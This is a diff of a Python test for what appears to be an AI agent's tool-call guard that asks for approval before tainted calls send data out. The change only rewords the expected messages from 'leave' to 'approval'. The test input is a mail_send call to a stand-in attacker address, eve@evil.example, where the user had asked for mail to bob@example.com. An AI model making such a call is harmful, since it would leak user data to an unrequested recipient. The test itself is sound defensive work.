@@ -21,12 +21,12 @@ def test_the_verdict_stands_first_then_why_and_what_each_stage_said(capsys: pyte
     supposed = Supposed(tainted=True, words="write a summary to bob@example.com")
     explain_call(GUARDING, "mail_send", '{"to": "eve@evil.example", "body": "x"}', supposed)
     lines = capsys.readouterr().out.splitlines()
-    assert lines[0].startswith("ask: What could send data out needs leave")
+    assert lines[0].startswith("ask: What could send data out needs approval")
     assert lines[0].endswith("(taint.sends)")
     assert lines[1] == "  because it could send data out, and your own words do not name where to"
     assert lines[2] == "it would: send; tier 2"
     assert "  effects and taint  ask (taint.sends)" in lines
-    assert lines[-1] == "leave can be given once only"
+    assert lines[-1] == "approval can be given once only"
 
 
 @pytest.mark.parametrize(
